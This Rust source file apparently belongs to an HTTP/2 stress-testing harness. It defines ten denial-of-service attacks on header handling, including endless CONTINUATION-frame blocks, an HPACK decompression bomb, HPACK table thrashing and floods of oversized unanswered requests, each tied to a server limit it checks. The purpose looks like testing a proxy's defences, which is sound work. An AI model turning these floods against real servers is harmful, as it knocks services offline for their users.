//! Header blocks that are larger than they look, or never end.

use bytes::{BufMut as _, Bytes, BytesMut};
use e2e::{Frame, FrameConn, flags, kind, literal_block};
use futures_util::future::join_all;
use tokio::time::timeout;

use super::hpack::{Head, in_frames, stream};
use super::{Target, batched};
use crate::attack::{Attack, Backend, Seconds, Work};

/// Nearly all of the table of 4,096 octets (RFC 7541 §4.1: 32 for each entry).
const LONG: usize = 3_700;
const LONGER: Seconds = Seconds {
    proof: 15.0,
    short: 2.5,
};
const TOO_LARGE: &[&str] = &["max_header_list_size", "max_header_fields"];

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "continuations",
        does: "a header block of CONTINUATION frames that never ends (CVE-2024-27983 and its kind)",
        work: |target| endless(target, literal_block(&[("a", "b")])),
        limits: &["max_continuations"],
        ..Attack::USUAL
    },
    Attack {
        name: "empty_continuations",
        does: "the same with empty frames",
        work: |target| endless(target, Bytes::new()),
        limits: &["max_continuations"],
        ..Attack::USUAL
    },
    Attack {
        name: "large_blocks",
        does: "header blocks of megabytes",
        work: |target| endless(target, literal_block(&[("x-large", &"v".repeat(16_000))])),
        limits: &["max_header_block"],
        ..Attack::USUAL
    },
    Attack {
        name: "hpack_bomb",
        does: "12,000 octets that name a field of 4 KiB each: 46 MiB of header list (CVE-2016-6581)",
        work: |target| repeated(target, "v".repeat(LONG), 12_000),
        backend: Backend::Answers,
        limits: TOO_LARGE,
        ..Attack::USUAL
    },
    Attack {
        name: "tiny_fields",
        does: "12,000 octets that name an empty field each (CVE-2026-49975 and its kind)",
        work: |target| repeated(target, String::new(), 12_000),
        backend: Backend::Answers,
        limits: TOO_LARGE,
        ..Attack::USUAL
    },
    Attack {
        name: "over_large",
        does: "requests at full rate whose header list is just too large: 18 octets that stand for 66 KiB",
        work: |target| repeated(target, "v".repeat(LONG), 18),
        backend: Backend::Answers,
        limits: TOO_LARGE,
        ..Attack::USUAL
    },
    Attack {
        name: "amplified",
        does: "valid requests of 31 octets at full rate that are 59 KiB of header list at a backend that answers",
        work: amplified,
        backend: Backend::Answers,
        ..Attack::USUAL
    },
    Attack {
        name: "table_thrash",
        does: "header blocks of 128 KiB, each two octets of which replace an entry of the table",
        work: thrash,
        backend: Backend::Answers,
        ..Attack::USUAL
    },
    Attack {
        name: "unanswered_heads",
        does: "100 connections × 256 requests with 59 KiB of header list, which a mute backend never answers",
        work: unanswered,
        seconds: LONGER,
        ..Attack::USUAL
    },
    Attack {
        name: "unread_heads",
        does: "the same, to a backend that does not read them",
        work: unanswered,
        backend: Backend::Deaf,
        seconds: LONGER,
        ..Attack::USUAL
    },
];

/// One header block that goes on and on.
fn endless(target: Target, piece: Bytes) -> Work {
    Box::pin(async move {
        let head = Head::new("localhost", "/t.T/Ask", &[], 0);
        let first = Frame::bytes(kind::HEADERS, flags::END_STREAM, 1, head.first());
        let more = Frame::bytes(kind::CONTINUATION, 0, 1, &piece);
        let block = || batched(std::iter::once(first.clone()).chain(std::iter::repeat(more.clone())));
        target.flood(&[], block).await;
        target.tally()
    })
}

/// A field that is put into the table once, and named `times` times in each request.
fn repeated(target: Target, value: String, times: usize) -> Work {
    Box::pin(async move {
        let head = Head::new("localhost", "/t.T/Ask", &[("x", &value)], times);
        let requests = || {
            let head = head.clone();
            batched((0..).map(move |number| head.frame(number, true)))
        };
        target.flood(&[], requests).await;
        target.tally()
    })
}

fn amplified(target: Target) -> Work {
    Box::pin(async move {
        let head = Head::new("localhost", "/t.T/Ask", &[("x", &"v".repeat(LONG))], 16);
        target.ask(&head, 100).await;
        target.tally()
    })
}

fn thrash(target: Target) -> Work {
    Box::pin(async move {
        let mut block = BytesMut::from(Head::new("localhost", "/t.T/Ask", &[], 0).first().as_ref());
        // RFC 7541 §6.2.1: a literal that is indexed, its name the static entry 32 (`cookie`), its value empty.
        while block.len() < (128 << 10) - 200 {
            block.put_slice(&[0x40 | 32, 0]);
        }
        let block = block.freeze();
        let requests = || {
            let block = block.clone();
            (0..).map(move |number| in_frames(stream(number), &block))
        };
        target.flood(&[], requests).await;
        target.tally()
    })
}

fn unanswered(target: Target) -> Work {
    Box::pin(async move {
        let asking = join_all((0..100).map(async |number| {
            // No two connections say the same.
            let value = format!("{number:0LONG$}");
            let head = Head::new("localhost", "/t.T/Ask", &[("x", &value)], 16);
            let mut connection = target.client(&[]).await?;
            // A few at a time, each answered by a PING's answer: a burst would be turned away for the queues it fills.
            for round in 0..50 {
                let mut requests = BytesMut::new();
                (5 * round..5 * round + 5).for_each(|number| requests.put(head.frame(number, true)));
                requests.put(Frame::bytes(kind::PING, 0, 0, &[7; 8]));
                target.sent(requests.len());
                connection.write(&requests).await.ok()?;
                let answered = async {
                    while let Some(frame) = connection.read().await {
                        if frame.kind == kind::PING && frame.flags & flags::ACK != 0 {
                            return;
                        }
                    }
                };
                if timeout(target.left(), answered).await.is_err() {
                    break;
                }
            }
            Some(connection)
        }));
        let connections = asking.await;
        wait_for_ends(&target, connections.into_iter().flatten()).await;
        target.tally()
    })
}

/// Reads from all of them until the time is up, and notes which end before.
pub(crate) async fn wait_for_ends(target: &Target, connections: impl Iterator<Item = FrameConn>) {
    join_all(connections.map(async |mut connection| {
        let ending = connection.ending(target.left()).await;
        target.ended_by(ending.as_ref());
    }))
    .await;
}
